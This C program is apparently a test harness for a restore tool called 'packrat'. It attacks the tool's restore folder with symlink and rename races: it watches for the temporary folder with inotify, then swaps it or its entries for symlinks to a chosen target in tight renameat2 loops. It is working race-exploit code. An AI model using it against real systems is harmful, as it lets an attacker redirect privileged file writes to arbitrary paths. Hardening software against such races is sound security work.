/* Attacker of a service: works against a restore in its folder, as fast as it can.
   race FOLDER TARGET MODE, in the folder of the service. Modes:
   link    the working folder is replaced by a symlink to TARGET
   own     it is replaced by a folder of the attacker's, with symlinks inside
   flip    it is exchanged with a folder of the attacker's, again and again
   entries entries of the service's folder are exchanged for symlinks to TARGET, again and again */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

static char name[256];

static void wait_for_folder(void) {
  int fd = inotify_init(); char buffer[1 << 16];
  inotify_add_watch(fd, ".", IN_CREATE | IN_MOVED_TO);
  printf("ready\n"); fflush(stdout);
  while (!*name) {
    ssize_t size = read(fd, buffer, sizeof buffer);
    for (char *p = buffer; p < buffer + size;) {
      struct inotify_event *event = (void *)p; p += sizeof *event + event->len;
      if (event->len && !strncmp(event->name, ".packrat-restore-", 17)) { strcpy(name, event->name); break; }
    }
  }
}

static void make_own(const char *folder, const char *target) {
  char path[600];
  mkdir(folder, 0777);
  snprintf(path, sizeof path, "%s/tree", folder); symlink(target, path);
  snprintf(path, sizeof path, "%s/aside", folder); symlink(target, path);
}

int main(int argc, char **argv) {
  const char *target = argv[2], *mode = argv[3];
  if (argc != 4 || chdir(argv[1])) return 2;
  umask(0);
  if (!strcmp(mode, "entries")) {
    const char *entries[] = {"a", "data", "part", "only-new", "type"};
    symlink(target, "evil");
    printf("ready\n"); fflush(stdout);
    for (unsigned n = 0;; n++) renameat2(AT_FDCWD, "evil", AT_FDCWD, entries[n / 2 % 5], RENAME_EXCHANGE);
  }
  wait_for_folder();
  if (!strcmp(mode, "flip")) {
    make_own("mine", target);
    for (;;) renameat2(AT_FDCWD, "mine", AT_FDCWD, name, RENAME_EXCHANGE);
  }
  rename(name, "moved-away");
  if (!strcmp(mode, "link")) symlink(target, name);
  else make_own(name, target);
  for (;;) pause();
}
